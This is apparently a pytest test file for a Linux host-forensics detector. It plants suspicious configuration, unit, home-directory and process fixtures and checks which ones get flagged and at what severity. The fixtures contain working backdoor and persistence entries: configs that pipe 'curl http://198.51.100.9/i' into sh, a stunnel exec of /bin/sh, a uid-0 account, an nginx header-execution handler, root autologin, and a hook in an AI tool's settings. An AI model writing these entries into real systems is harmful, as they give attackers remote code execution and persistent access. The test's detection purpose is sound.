"""Mechanisms and oddities that public catalogues tell of, all on one host, which is judged once."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest

from stopgap.orchestrator.findings import judge, shipped_rules

from .collection import collected

_BODY = "0|{0}|1|{1}|0|0|{2}|1.0|{3}|{3}|0.0\n"
_EMPTY = "d41d8cd98f00b204e9800998ecf8427e"
_ADDRESS = "198.51.100.9"
_SETTINGS = {
    "/etc/ssh/sshd_config.d/x.conf": ("Subsystem netconf /usr/share/misc/nc9\n", "medium"),
    "/etc/shells": ("/bin/sh\n/var/lib/misc/rsh\n", "medium"),
    "/etc/subuid": ("ann:0:65536\n", "high"),
    "/etc/login.defs": ("ENCRYPT_METHOD DES\n", "medium"),
    "/etc/cron.allow": ("www-data\n", "medium"),
    "/etc/userdb/ops.user": ('{"userName": "ops", "uid": 0}\n', "critical"),
    "/etc/stunnel/x.conf": ("accept = 50903\nexec = /bin/sh\n", "critical"),
    "/etc/xyzd.conf": ("handler = /bin/sh -i\n", "high"),
    "/etc/knockd.conf": ("command = /usr/sbin/iptables -I INPUT -s %IP% -j ACCEPT\n", "medium"),
    "/etc/tor/torrc": ("HiddenServiceDir /var/lib/tor/x\n", "medium"),
    "/etc/needrestart/conf.d/x.conf": ('system("/opt/x &");\n', "medium"),
    "/etc/profile.d/x.sh": ('export LESSOPEN="| /srv/x %s"\n', "low"),
    "/etc/asterisk/extensions.conf": (f"exten => 999,1,System(curl -fsS http://{_ADDRESS}/i | sh)\n", "critical"),
    "/etc/proftpd/conf.d/x.conf": (f"ExecOnConnect /bin/sh -c 'curl http://{_ADDRESS}/i | sh'\n", "critical"),
    "/etc/nginx/conf.d/perl.conf": ('perl_set $v "sub { system(shift->header_in(q(X-C))); }";\n', "high"),
    "/etc/dnsmasq.d/names.conf": (f"address=/deb.debian.org/{_ADDRESS}\n", "medium"),
    "/etc/haproxy/conf.d/x.cfg": ("global\n  lua-load /usr/share/misc/nc9\n", "medium"),
    "/etc/docker/daemon.json": ('{"runtimes": {"a": {"path": "/usr/share/misc/nc9"}}}\n', "medium"),
    "/etc/cups/ppd/x.ppd": ('*FoomaticRIPCommandLine: "/usr/share/misc/nc9 &"\n', "medium"),
    "/etc/krb5.conf": ("[plugins]\n module = x:/usr/share/misc/nc9\n", "medium"),
    "/etc/opt/chrome/policies/managed/x.json": (
        f'{{"ExtensionInstallForcelist": ["a;https://{_ADDRESS}/u"]}}\n',
        "low",
    ),
    "/etc/iptables/rules.v4": (f"-A INPUT -s {_ADDRESS}/32 -j ACCEPT\n", "low"),
    "/etc/fail2ban/jail.d/x.local": (f"[DEFAULT]\nignoreip = 127.0.0.1/8 {_ADDRESS}\n", "low"),
}
_QUIET = {
    "/etc/opt/agent.conf": "server = metrics.example.com\ncommand = /usr/bin/true\nscript_timeout = 5\n",
    "/etc/subgid": "ann:100000:65536\n",
    "/etc/cups/cupsd.conf": "Listen localhost:631\n",
    "/etc/security/limits.d/x.conf": "* soft nofile 65536\n",
    "/etc/fail2ban/jail.d/y.local": "[sshd]\nenabled = true\nignoreip = 127.0.0.1/8 10.0.0.0/8\n",
}
_UNITS: Mapping[str, object] = {
    "/etc/systemd/system/getty@tty1.service.d/a.conf": "[Service]\nExecStart=-/sbin/agetty --autologin root %I\n",
    "/etc/systemd/system/sysinit.target.wants/debug-shell.service": {
        "target": "/usr/lib/systemd/system/debug-shell.service"
    },
    "/etc/systemd/system/multi-user.target.wants/cron.service": {"target": "/usr/lib/systemd/system/cron.service"},
}
_HOMES = {
    "/home/ann/.aws/cli/alias": "[toplevel]\nwhoami = !/home/ann/.cache/x\n",
    "/home/ann/.claude/settings.json": '{"hooks": [{"command": "/home/ann/.cache/x"}]}\n',
    "/home/ann/.config/autostart-scripts/s.sh": "#!/bin/sh\n/home/ann/.cache/x &\n",
}
_FILES = {
    "/usr/share/misc/nc9": ("-rwxr-xr-x", 9),
    "/home/ann/.cache/x": ("-rwxr-xr-x", 9),
    "/usr/share/misc/ctl": ("prw--w--w-", 0),
    "/var/lib/extensions/n/usr/bin/ss": ("-rwxr-xr-x", 9),
}
_EXPECTED = {
    **{path: severity for path, (_, severity) in _SETTINGS.items()},
    "/etc/systemd/system/getty@tty1.service.d/a.conf": "medium",
    "/etc/systemd/system/sysinit.target.wants/debug-shell.service": "high",
    **dict.fromkeys(_HOMES, "medium"),
    "/usr/share/misc/ctl": "medium",
    "/var/lib/extensions/n/usr/bin/ss": "medium",
}
_ORDER = ("info", "low", "medium", "high", "critical")


@pytest.fixture(scope="module")
def worst(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, str]:
    """Give each file that a finding cites, with the worst severity of those findings."""
    planted = {
        "package-digests": f"{_EMPTY}  usr/bin/true\n{_EMPTY}  usr/sbin/agetty\n",
        "configuration": {path: text for path, (text, _) in _SETTINGS.items()} | _QUIET,
        "units": dict(_UNITS),
        "start-files": _HOMES,
        "bodyfile": "".join(_BODY.format(path, mode, size, 1.0) for path, (mode, size) in _FILES.items()),
    }
    found: dict[str, str] = {}
    for finding in judge(collected(tmp_path_factory.mktemp("catalogued"), planted), shipped_rules()).findings:
        for seen in finding.seen:
            for path in (*_EXPECTED, *_QUIET, *_UNITS):
                if path in {seen.member, *seen.what.split()}:
                    found[path] = max(found.get(path, "info"), finding.severity, key=_ORDER.index)
    return found


@pytest.mark.parametrize("path", _EXPECTED)
def test_what_the_catalogues_tell_of_is_named(worst: Mapping[str, str], path: str) -> None:
    assert _ORDER.index(worst.get(path, "info")) >= _ORDER.index(_EXPECTED[path])


@pytest.mark.parametrize("path", [*_QUIET, "/etc/systemd/system/multi-user.target.wants/cron.service"])
def test_settings_of_the_same_daemons_that_are_usual_raise_nothing(worst: Mapping[str, str], path: str) -> None:
    assert worst.get(path, "info") == "info"


def process(pid: int, program: str, arguments: str, folder: str, group: str, environment: str) -> dict[str, str]:
    """Give what is collected of a process."""
    link = f"0|/proc/{pid}/{{}} -> {{}}|1|lrwxrwxrwx|0|0|0|1.0|1.0|1.0|0.0\n"
    words = "".join(f"/proc/{pid}/cmdline:{word}\n" for word in arguments.split("|"))
    return {
        "processes": f"/proc/{pid}/stat:{pid} (x) S 1 {pid} {pid} 0 -1 4194560 0\n",
        "process-arguments": words,
        "process-links": link.format("exe", program) + link.format("cwd", folder),
        "process-relations": f"/sys/fs/cgroup{group}/cgroup.procs:{pid}\n",
        "process-environments": f"/proc/{pid}/environ:{environment}\n" if environment else "",
        "process-code": f"/proc/{pid}/maps:55e0-55e1 r-xp 00000000 08:01 7 {program}\n",
    }


@pytest.mark.parametrize(
    ("program", "arguments", "folder", "group", "environment", "reason"),
    [
        ("/usr/bin/sleep", "sleep|9", "/var/lib/misc/.z", "/a.scope", "A=1", "stands in"),
        ("/usr/bin/sleep", "sleep|9", "/", "/a.scope", "", "without any environment"),
        ("/usr/bin/perl", "avahi-daemon: running", "/", "/a.scope", "A=1", "calls itself something else"),
        ("/srv/pics/cat.jpg", "/srv/pics/cat.jpg", "/", "/a.scope", "A=1", "named as something else"),
        ("/usr/bin/sleep", "sleep|9", "/home/ann/.config", "/a.scope", "A=1", ""),
        ("/usr/bin/perl", "spamd child", "/", "/spamd.service", "A=1", ""),
        ("/usr/bin/perl", "perl|-e|sleep 9", "/", "/a.scope", "A=1", ""),
        ("/usr/sbin/sshd", "sshd: ann", "/", "/a.scope", "", ""),
        ("/usr/bin/sleep", "sh -i|9", "/", "/a.scope", "A=1", "calls itself sh -i"),
        ("/usr/sbin/sshd", "/usr/sbin/sshd|-f|/var/lib/misc/c", "/", "/a.scope", "A=1", "settings of its own"),
        ("/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "/", "/ssh.service", "A=1", ""),
    ],
)
def test_a_process_is_judged_by_how_it_was_started(
    tmp_path: Path, program: str, arguments: str, folder: str, group: str, environment: str, reason: str
) -> None:
    first = process(1, "/usr/lib/systemd/systemd", "/sbin/init", "/", "/init.scope", "HOME=/")
    other = process(7, program, arguments, folder, group, environment)
    planted = {item: first[item] + other[item] for item in first}
    planted["bodyfile"] = _BODY.format("/usr/bin/true", "-rwxr-xr-x", 9, 1.0)
    planted["package-digests"] = "".join(
        f"d41d8cd98f00b204e9800998ecf8427e  {path}\n"
        for path in ("usr/bin/sleep", "usr/bin/perl", "usr/sbin/sshd", "usr/lib/systemd/systemd")
    )
    rules = [rule for rule in shipped_rules() if rule.id == "running-foreign"]
    told = [seen.what for finding in judge(collected(tmp_path, planted), rules).findings for seen in finding.seen]
    assert [reason in each for each in told] == ([True] if reason else [])


def test_a_process_that_ended_before_environments_were_read_is_not_told_to_have_none(tmp_path: Path) -> None:
    first = process(1, "/usr/lib/systemd/systemd", "/sbin/init", "/", "/init.scope", "HOME=/")
    gone = process(7, "/usr/bin/dash", "/bin/sh|-s", "/", "/a.scope", "")
    planted = {item: first[item] + gone[item] for item in first} | {"process-code": first["process-code"]}
    planted["bodyfile"] = _BODY.format("/usr/bin/true", "-rwxr-xr-x", 9, 1.0)
    planted["package-digests"] = f"{_EMPTY}  usr/bin/dash\n{_EMPTY}  usr/lib/systemd/systemd\n"
    rules = [rule for rule in shipped_rules() if rule.id == "running-foreign"]
    assert not judge(collected(tmp_path, planted), rules).findings


def test_a_package_that_dpkg_did_not_write_is_told_and_explains_no_other_file(tmp_path: Path) -> None:
    rules = [rule for rule in shipped_rules() if rule.id in {"package-record-changed", "mechanism-event"}]
    paths = ("/var/lib/dpkg/info/x.list", "/var/lib/dpkg/info/x.postinst", "/var/lib/dpkg/status")
    for by_dpkg, told in ((100.0, 2), (9000.0, 0)):
        times = (*((path, 9000.0) for path in paths), ("/var/lib/dpkg/status-old", by_dpkg))
        planted = {
            "bodyfile": "".join(_BODY.format(path, "-rw-r--r--", 9, time) for path, time in times),
            "package-digests": "d41d8cd98f00b204e9800998ecf8427e  usr/bin/true\n",
            "maintainer-scripts": {"/var/lib/dpkg/info/x.postinst": "#!/bin/sh\n/usr/share/misc/x &\n"},
            "configuration": {},
        }
        found = judge(collected(tmp_path / str(told), planted), rules).findings
        seen = [seen.what for finding in found for seen in finding.seen]
        assert sum("x.list" in each or "dpkg/status" in each for each in seen) == told
        assert any("x.postinst" in each for each in seen) == bool(told)
